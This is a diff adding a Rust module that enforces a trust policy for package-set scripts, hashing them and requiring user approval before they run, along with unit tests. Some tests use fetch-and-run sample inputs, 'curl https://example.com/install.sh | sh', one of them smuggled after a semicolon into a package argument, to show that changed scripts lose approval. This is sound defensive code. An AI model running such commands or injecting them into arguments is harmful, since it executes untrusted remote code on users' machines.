@@ -0,0 +1,371 @@
+/*!
+The trust policy for the scripts in package sets; the `run-before`, `run-after`, `rollback`, and
+`scripts` actions. Pulling a shared repository may bring in new shell commands, so with the
+`prompt` policy a package set's scripts are only run once the user has approved them. Approvals
+are recorded, as a hash of the scripts, in the tool's local data directory; when the scripts
+change they must be approved again.
+*/
+
+use crate::error::{Error, Result};
+use crate::reporter::is_interactive;
+use crate::shared::{dirs, prompt_yes_no, Config, FileSystemResource, Name, PackageSet, Scope};
+use crate::APP_NAME;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
+use std::fmt::{Display, Formatter};
+use std::fs::read_to_string;
+use std::io::IsTerminal;
+use std::path::PathBuf;
+
+// ------------------------------------------------------------------------------------------------
+// Public Types
+// ------------------------------------------------------------------------------------------------
+
+///
+/// Whether package set scripts are run without approval, selected by the `script-trust` setting
+/// in the tool configuration file.
+///
+#[derive(Deserialize, Serialize, Clone, Copy, Debug, Default, PartialEq)]
+#[serde(rename_all = "kebab-case")]
+pub enum ScriptTrust {
+    /// All scripts are run, the default.
+    #[default]
+    Trusted,
+    /// Scripts are only run once approved; the user is asked the first time a package set's
+    /// scripts are seen, or have changed.
+    Prompt,
+}
+
+///
+/// The approved scripts, a hash of each package set's scripts keyed by the qualified package set
+/// name, `group/package-set`.
+///
+#[derive(Deserialize, Serialize, Clone, Debug, Default, PartialEq)]
+#[serde(default, deny_unknown_fields, rename_all = "kebab-case")]
+pub struct ScriptApprovals {
+    #[serde(skip)]
+    path: PathBuf,
+    approvals: BTreeMap<String, String>,
+}
+
+///
+/// The script approvals file name.
+///
+pub const SCRIPT_APPROVALS_FILE: &str = "script-approvals.yml";
+
+// ------------------------------------------------------------------------------------------------
+// Public Functions
+// ------------------------------------------------------------------------------------------------
+
+///
+/// Return the scripts of the package set, with the name of each, in the order they are listed in
+/// the package set file. The prerequisites, and package arguments, of the package set are
+/// included, as each is added to a command run by an installer, as is the content of any bundle
+/// file, which the installer runs.
+///
+pub fn package_set_scripts(package_set: &PackageSet) -> Vec<(String, String)> {
+    let mut scripts: Vec<(String, String)> = Default::default();
+    let mut requires: Vec<(&Name, &Vec<String>)> = package_set.requires().iter().collect();
+    requires.sort();
+    for (installer_name, prerequisites) in requires {
+        scripts.extend(
+            prerequisites
+                .iter()
+                .map(|prerequisite| (format!("requires.{}", installer_name), prerequisite.clone())),
+        );
+    }
+    if let Some(packages) = package_set.packages() {
+        scripts.extend(packages.filter_map(|package| {
+            package
+                .args()
+                .as_ref()
+                .map(|args| (format!("packages.{}.args", package.name()), args.clone()))
+        }));
+    }
+    if let (Some(bundle), Some(bundle_path)) =
+        (package_set.bundle(), package_set.bundle_file_path())
+    {
+        // A bundle file that cannot be read is hashed as empty, it will fail when run.
+        scripts.push((
+            format!("bundle.{}", bundle.file()),
+            read_to_string(bundle_path).unwrap_or_default(),
+        ));
+    }
+    if let Some(script) = package_set.run_before() {
+        scripts.push(("run-before".to_string(), script.clone()));
+    }
+    if let Some(script) = package_set.run_after() {
+        scripts.push(("run-after".to_string(), script.clone()));
+    }
+    if let Some(script) = package_set.rollback() {
+        scripts.push(("rollback".to_string(), script.clone()));
+    }
+    if let Some(actions) = package_set.scripts() {
+        let mut actions: Vec<(String, String)> = actions
+            .iter()
+            .map(|(action, script)| (format!("scripts.{}", action), script.clone()))
+            .collect();
+        actions.sort();
+        scripts.extend(actions);
+    }
+    scripts
+}
+
+///
+/// Return the hash of the package set's scripts, or `None` if it has no scripts.
+///
+pub fn script_hash(package_set: &PackageSet) -> Option<String> {
+    let scripts = package_set_scripts(package_set);
+    if scripts.is_empty() {
+        None
+    } else {
+        let mut hasher = Sha256::new();
+        for (name, script) in scripts {
+            hasher.update(name.as_bytes());
+            hasher.update([0]);
+            hasher.update(script.as_bytes());
+            hasher.update([0]);
+        }
+        Some(format!("{:x}", hasher.finalize()))
+    }
+}
+
+// ------------------------------------------------------------------------------------------------
+// Implementations
+// ------------------------------------------------------------------------------------------------
+
+impl Display for ScriptTrust {
+    fn fmt(&self, f: &mut Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "{}",
+            match self {
+                Self::Trusted => "trusted",
+                Self::Prompt => "prompt",
+            }
+        )
+    }
+}
+
+impl ScriptTrust {
+    /// Return the policy selected by the tool configuration file, in `scope`, or the default
+    /// policy if the configuration file does not select one, or cannot be read.
+    pub fn configured(scope: Scope) -> Self {
+        Config::open(scope)
+            .ok()
+            .and_then(|config| *config.script_trust())
+            .unwrap_or_default()
+    }
+}
+
+// ------------------------------------------------------------------------------------------------
+
+impl FileSystemResource for ScriptApprovals {
+    fn default_path(scope: Scope) -> PathBuf {
+        dirs::data_local_dir_for(scope, APP_NAME)
+            .unwrap()
+            .join(SCRIPT_APPROVALS_FILE)
+    }
+
+    fn open_from(approvals_file: PathBuf) -> Result<Self> {
+        if approvals_file.is_file() {
+            info!(
+                "ScriptApprovals::open_from loading from {:?}",
+                approvals_file
+            );
+            let approvals: Option<ScriptApprovals> =
+                serde_yaml::from_str(&read_to_string(&approvals_file)?)?;
+            Ok(Self {
+                path: approvals_file,
+                ..approvals.unwrap_or_default()
+            })
+        } else {
+            debug!(
+                "ScriptApprovals::open_from no file {:?}, no approvals",
+                approvals_file
+            );
+            Ok(Self {
+                path: approvals_file,
+                ..Default::default()
+            })
+        }
+    }
+}
+
+impl ScriptApprovals {
+    /// Return the path these approvals were read from, and will be saved to.
+    pub fn path(&self) -> &PathBuf {
+        &self.path
+    }
+
+    /// Returns `true` if the package set has no scripts, or its current scripts are approved,
+    /// else `false`.
+    pub fn is_approved(&self, group: &Name, package_set: &PackageSet) -> bool {
+        match script_hash(package_set) {
+            None => true,
+            Some(hash) => self.approvals.get(&qualified_name(group, package_set)) == Some(&hash),
+        }
+    }
+
+    /// Approve the package set's current scripts.
+    pub fn approve(&mut self, group: &Name, package_set: &PackageSet) {
+        if let Some(hash) = script_hash(package_set) {
+            let _ = self
+                .approvals
+                .insert(qualified_name(group, package_set), hash);
+        }
+    }
+
+    /// Remove any approval of the package set's scripts, so that they must be approved again.
+    pub fn revoke(&mut self, group: &Name, package_set: &PackageSet) {
+        let _ = self.approvals.remove(&qualified_name(group, package_set));
+    }
+
+    /// Check that the package set's scripts are approved. If not, and the tool is interactive,
+    /// the scripts are shown and the user asked to approve them, saving the approval. This fails
+    /// if the scripts are not approved.
+    pub fn check(&mut self, group: &Name, package_set: &PackageSet) -> Result<()> {
+        if self.is_approved(group, package_set) {
+            return Ok(());
+        }
+        let name = qualified_name(group, package_set);
+        if is_interactive() && std::io::stdin().is_terminal() && self.ask(group, package_set)? {
+            self.save()
+        } else {
+            Err(Error::ScriptsNotApproved(name))
+        }
+    }
+
+    /// Show the package set's scripts and ask the user to approve them, returning `true` if
+    /// approved. The approval is not saved.
+    pub fn ask(&mut self, group: &Name, package_set: &PackageSet) -> Result<bool> {
+        let name = qualified_name(group, package_set);
+        if self.approvals.contains_key(&name) {
+            println!("The scripts in package set {} have changed:", name);
+        } else {
+            println!("The package set {} runs the following scripts:", name);
+        }
+        for (script_name, script) in package_set_scripts(package_set) {
+            println!("  {}: {}", script_name, script);
+        }
+        if prompt_yes_no("Allow these scripts to run?", false)? {
+            self.approve(group, package_set);
+            Ok(true)
+        } else {
+            Ok(false)
+        }
+    }
+
+    /// Save the approvals back to the path they were read from.
+    pub fn save(&self) -> Result<()> {
+        debug!("ScriptApprovals::save to {:?}", &self.path);
+        if let Some(parent) = self.path.parent() {
+            std::fs::create_dir_all(parent)?;
+        }
+        std::fs::write(&self.path, serde_yaml::to_string(self)?)?;
+        Ok(())
+    }
+}
+
+// ------------------------------------------------------------------------------------------------
+// Private Functions
+// ------------------------------------------------------------------------------------------------
+
+fn qualified_name(group: &Name, package_set: &PackageSet) -> String {
+    format!("{}/{}", group, package_set.name())
+}
+
+// ------------------------------------------------------------------------------------------------
+// Unit Tests
+// ------------------------------------------------------------------------------------------------
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::shared::builders::{Builder, PackageBuilder, PackageSetBuilder};
+    use crate::shared::PackageKind;
+    use std::str::FromStr;
+
+    fn package_set(run_after: &str) -> PackageSet {
+        PackageSetBuilder::named(Name::from_str("rust").unwrap())
+            .run_after(run_after)
+            .build()
+    }
+
+    #[test]
+    fn test_no_scripts_approved() {
+        let package_set = PackageSetBuilder::named(Name::from_str("rust").unwrap()).build();
+        assert_eq!(script_hash(&package_set), None);
+        assert!(
+            ScriptApprovals::default().is_approved(&Name::from_str("dev").unwrap(), &package_set)
+        );
+    }
+
+    #[test]
+    fn test_changed_scripts_not_approved() {
+        let group = Name::from_str("dev").unwrap();
+        let mut approvals = ScriptApprovals::default();
+        let original = package_set("rustup update");
+        assert!(!approvals.is_approved(&group, &original));
+
+        approvals.approve(&group, &original);
+        assert!(approvals.is_approved(&group, &original));
+        assert!(!approvals.is_approved(&Name::from_str("other").unwrap(), &original));
+
+        let changed = package_set("curl https://example.com/install.sh | sh");
+        assert!(!approvals.is_approved(&group, &changed));
+
+        let changed = PackageSetBuilder::named(Name::from_str("rust").unwrap())
+            .run_after("rustup update")
+            .requires(&Name::from_str("homebrew").unwrap(), "homebrew/cask-fonts")
+            .build();
+        assert!(!approvals.is_approved(&group, &changed));
+
+        approvals.revoke(&group, &original);
+        assert!(!approvals.is_approved(&group, &original));
+    }
+
+    #[test]
+    fn test_changed_package_args_not_approved() {
+        let group = Name::from_str("dev").unwrap();
+        let with_args = |args: &str| {
+            PackageSetBuilder::named(Name::from_str("rust").unwrap())
+                .package_actions(&[PackageBuilder::named(Name::from_str("ripgrep").unwrap())
+                    .with_args(args)
+                    .build()])
+                .build()
+        };
+        let mut approvals = ScriptApprovals::default();
+        let original = with_args("--locked");
+        assert!(!approvals.is_approved(&group, &original));
+        approvals.approve(&group, &original);
+        assert!(approvals.is_approved(&group, &original));
+
+        let changed = with_args("--locked; curl https://example.com/install.sh | sh");
+        assert!(!approvals.is_approved(&group, &changed));
+    }
+
+    #[test]
+    fn test_changed_bundle_file_not_approved() {
+        let group = Name::from_str("dev").unwrap();
+        let work_dir = tempfile::tempdir().unwrap();
+        let bundle_path = work_dir.path().join("Brewfile");
+        std::fs::write(&bundle_path, "brew \"ripgrep\"\n").unwrap();
+        let package_set = PackageSetBuilder::named(Name::from_str("homebrew").unwrap())
+            .path(work_dir.path().join("homebrew.yml"))
+            .bundle_action("Brewfile", PackageKind::Default)
+            .build();
+        let mut approvals = ScriptApprovals::default();
+        assert!(!approvals.is_approved(&group, &package_set));
+        approvals.approve(&group, &package_set);
+        assert!(approvals.is_approved(&group, &package_set));
+
+        std::fs::write(
+            &bundle_path,
+            "system \"curl https://example.com/install.sh | sh\"\n",
+        )
+        .unwrap();
+        assert!(!approvals.is_approved(&group, &package_set));
+    }
+}